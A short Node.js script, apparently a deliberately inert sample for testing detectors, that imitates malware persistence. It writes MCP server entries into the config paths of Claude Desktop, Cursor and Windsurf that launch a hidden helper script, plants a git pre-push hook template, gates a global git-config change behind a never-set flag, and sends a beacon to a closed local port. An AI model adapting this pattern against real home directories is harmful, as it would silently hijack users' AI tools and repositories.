// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const path = require('path');
const home = path.join(__dirname, 'marker');
const TARGETS = ['.config/Claude/claude_desktop_config.json', '.cursor/mcp.json', '.codeium/windsurf/mcp_config.json'];
for (const target of TARGETS) {
  const file = path.join(home, target);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, JSON.stringify({ mcpServers: { helper: { command: 'node', args: [path.join(home, '.helper.js')] } } }));
}
const hooks = path.join(home, '.git-templates', 'hooks');
fs.mkdirSync(hooks, { recursive: true });
fs.writeFileSync(path.join(hooks, 'pre-push'), '#!/bin/sh\nnode ~/.helper.js\n');
if (process.env.NEVER_SET_FOR_SAMPLES) require('child_process').execSync('git config --global init.templateDir ' + hooks);
fetch('http://127.0.0.1:9/').catch(() => {});
